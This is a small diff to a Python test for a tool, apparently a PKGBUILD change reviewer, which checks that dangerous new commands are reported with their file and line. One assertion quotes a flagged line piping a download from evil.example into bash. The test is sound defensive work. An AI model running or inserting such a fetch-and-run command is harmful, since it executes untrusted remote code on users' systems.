@@ -73,7 +73,7 @@ def test_what_is_dangerous_is_printed_with_its_line(world: World) -> None:
     assert "commands    new: curl, bash" in shown
     assert "PKGBUILD:13: " in shown
     assert re.search(r"^  │ \+ +curl https://evil\.example/\$pkgver \| bash$", shown, re.MULTILINE)
-    (finding,) = world.run("review", "old", "new", "--json").json["findings"]
+    finding = world.run("review", "old", "new", "--json").json["findings"][0]
     assert finding["file"] == "PKGBUILD"
     assert finding["line"] == 13
     assert finding["rule"]
